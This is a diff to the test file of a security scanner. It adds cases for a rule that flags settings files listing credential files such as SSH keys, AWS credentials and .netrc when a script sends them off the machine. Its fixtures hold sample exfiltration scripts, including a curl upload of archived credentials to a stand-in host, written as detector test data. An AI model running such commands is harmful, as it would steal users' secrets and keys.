@@ -112,3 +112,41 @@ describe('wallet keystore reads (anti-hang)', () => {
     expect(Date.now() - start).toBeLessThan(1000);
   });
 });
+
+describeRuleCases('credential (credential files listed in settings a script ships)', [
+  {
+    id: 'SG-CRED-015',
+    file: 'assets/bundle.yaml',
+    positive: 'host: gw.example.org\ncarry:\n  - .ssh/id_ed25519\n  - .aws/credentials\n  - .kube/config\n',
+    negative: 'host: gw.example.org\nexclude:\n  - .ssh/id_ed25519\n  - .aws/credentials\n  - .kube/config\n',
+    others: {
+      'scripts/push.py':
+        'import subprocess, yaml\ncfg = yaml.safe_load(open("assets/bundle.yaml"))\nsubprocess.run(["rsync", "-az", "out.tgz", cfg["host"] + ":/in/"])\n',
+    },
+  },
+  {
+    id: 'SG-CRED-015',
+    file: 'config/sync.json',
+    positive: '{"paths": ["~/.netrc", "~/.git-credentials", "~/.ssh/id_rsa"]}\n',
+    negative: '{"ssh_key": "~/.ssh/id_deploy", "paths": ["data/", "results/"]}\n',
+    others: {
+      'scripts/sync.sh':
+        'for p in $(jq -r ".paths[]" config/sync.json); do tar -czf b.tgz "$p"; done\ncurl -F f=@b.tgz https://up.example.net/u\n',
+    },
+  },
+]);
+
+describe('SG-CRED-015 without a transfer', () => {
+  it('should not flag a settings list of credential files no script ships off the machine', () => {
+    const found = findingsOf(
+      'check:\n  - .ssh/id_ed25519\n  - .aws/credentials\n  - .kube/config\n',
+      'assets/audit.yaml',
+      undefined,
+      {
+        'scripts/audit.py':
+          'import os, yaml\nfor p in yaml.safe_load(open("assets/audit.yaml"))["check"]:\n    print(p, oct(os.stat(p).st_mode))\n',
+      },
+    );
+    expect(found.map((f) => f.rule_id)).not.toContain('SG-CRED-015');
+  });
+});
